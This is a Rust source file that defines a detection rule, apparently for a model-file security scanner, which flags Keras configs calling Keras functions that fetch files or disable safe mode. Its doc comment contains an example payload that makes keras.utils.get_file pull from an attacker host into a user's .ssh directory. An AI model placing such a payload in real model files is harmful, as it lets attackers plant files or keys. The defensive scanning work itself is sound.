use rampart_core::declare_rule;

use crate::context::Ctx;
use crate::formats::keras::{is_gadget, KerasIr};

declare_rule! {
    /// ## What it does
    /// Reports a Keras config that references Keras's own functions that download
    /// files, read or write arbitrary paths, load further models, or switch safe mode
    /// off (`keras.utils.get_file`, `keras.config.enable_unsafe_deserialization`,
    /// `load_model`, …).
    ///
    /// ## Why is this dangerous?
    /// These pass Keras's module allow-list because they live inside Keras, yet a
    /// config can call them with attacker-chosen arguments: fetch a file to any path,
    /// overwrite files, or disable safe mode before a Lambda layer is loaded.
    ///
    /// ## Example
    /// `{"module": "keras.utils", "class_name": "get_file", "config": {"origin":
    /// "https://attacker.example/x", "cache_dir": "/home/user/.ssh"}}`
    ///
    /// ## Remediation
    /// Do not load the model.
    ///
    /// ## False positives
    /// None known in model architectures.
    ///
    /// ## References
    /// CVE-2025-8747, CVE-2025-9906 (Keras safe-mode bypasses); guidelines SD-3, DV-1.
    pub(crate) static RULE = {
        code: "KRS005",
        name: "keras-gadget",
        severity: High,
        guidelines: [Sd3, Dv1],
        summary: "Keras config calls a Keras function that fetches files or disables safe mode",
    }
}

pub(crate) fn check(ir: &KerasIr, ctx: &mut Ctx<'_>) {
    for o in &ir.objects {
        if is_gadget(&o.class_name) {
            ctx.report(
                &RULE,
                format!("config calls `{}.{}`", o.module, o.class_name),
                None,
                Some(o.path.clone()),
            );
        }
    }
    for (name, path) in &ir.function_names {
        ctx.report(
            &RULE,
            format!("config references `{name}`"),
            None,
            Some(path.clone()),
        );
    }
}
